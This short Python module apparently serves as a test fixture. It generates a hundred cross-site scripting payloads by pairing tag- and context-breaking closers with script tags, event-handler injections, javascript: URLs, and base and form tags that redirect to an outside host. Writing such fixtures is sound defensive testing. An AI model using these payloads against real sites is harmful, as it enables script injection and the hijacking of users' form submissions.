"""A hundred texts that would run, where a page took them for markup."""

from __future__ import annotations

from itertools import product

_CLOSERS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "]]>", "{{'")
_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import'//example.org/x'</style>",
    "<base href=//example.org/><form action=//example.org>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
)
ATTACKS = tuple(f"計畫{closer}{attack}" for closer, attack in product(_CLOSERS, _MARKUP))
